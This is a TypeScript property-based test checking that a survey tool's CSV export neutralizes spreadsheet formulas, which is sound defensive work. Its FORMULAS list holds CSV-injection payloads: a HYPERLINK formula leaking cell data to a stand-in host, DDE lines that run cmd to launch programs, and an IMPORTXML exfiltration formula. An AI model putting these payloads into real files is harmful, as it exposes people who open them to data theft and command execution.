/**
 * Exports neutralize formulas: responses whose every text answer (and the survey's own texts) is a
 * spreadsheet formula are exported, every produced CSV file is read back cell by cell, and no cell
 * may start with a live formula character (= + - @ tab CR) — numbers excepted.
 */
import fc from "fast-check";
import Papa from "papaparse";
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { generateResponses } from "../../src/seeds/generate.ts";
import { createCsvExport, csvExportToStrings } from "../../src/export/export-csv.ts";
import { surveyFileToExportDefinition } from "../../src/export/plan.ts";
import { parseSurveyFile, type SurveyFile } from "../../src/schema/survey-file.ts";

const FORMULAS = [
  "=1+1",
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1",
  "\r=1",
  "=cmd|'/c notepad'!'A1'",
  "'=already quoted",
  "''+twice",
  "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
  "-",
  "=",
];

function load(path: string): SurveyFile {
  const parsed = parseSurveyFile(readFileSync(path, "utf8"), path);
  if (!parsed.ok) throw new Error(path);
  return parsed.file;
}

/** Replaces every string in an answer by a formula (keeping the shape). */
function poison(value: unknown, pick: () => string): unknown {
  if (typeof value === "string") return pick();
  if (Array.isArray(value)) return value.map((v) => poison(v, pick));
  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, pick)]));
  return value;
}

const LIVE = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

let cellsChecked = 0;

function liveCells(text: string): string[] {
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
  const bad: string[] = [];
  for (const row of rows) {
    for (const cell of row) {
      cellsChecked++;
      if (LIVE.test(cell) && !NUMBER.test(cell)) bad.push(JSON.stringify(cell));
    }
  }
  return bad;
}

describe("CSV export neutralizes formulas", () => {
  for (const path of ["tests/fixtures/surveys-extra/all-question-types.json", "surveys/jp-country-progress.json"]) {
    it(`${path}: no produced cell starts with a live formula character`, () => {
      const file = load(path);
      // The survey's own texts (titles, choices) are formulas too: they end up in headers and the codebook.
      const hostile = JSON.parse(JSON.stringify(file).replace(/"title":"/g, '"title":"=')) as SurveyFile;
      fc.assert(
        fc.property(fc.integer({ min: 1, max: 1_000_000 }), fc.constantFrom("comma", "semicolon", "tab"), (seed, delimiter) => {
          const records = generateResponses(hostile, { count: 6, seed, completedShare: 1 }).map((r, i) => {
            let n = seed + i;
            const data = poison(r.data, () => FORMULAS[n++ % FORMULAS.length]!) as Record<string, unknown>;
            return { ...r, data };
          });
          const exp = createCsvExport({ surveyId: hostile.id, definitions: [surveyFileToExportDefinition(hostile)], records }, { delimiter, includeDrafts: true });
          const files = csvExportToStrings(exp);
          expect(files.length).toBeGreaterThan(0);
          for (const f of files) expect(liveCells(f.text), f.name).toEqual([]);
          expect(exp.summary.neutralizedCells).toBeGreaterThan(0);
        }),
        { numRuns: 25, seed: 99 },
      );
    });
  }

  it("checked a real number of cells", () => {
    expect(cellsChecked).toBeGreaterThan(1000);
    console.log(`[robustness] CSV cells checked for formulas: ${cellsChecked}`);
  });
});
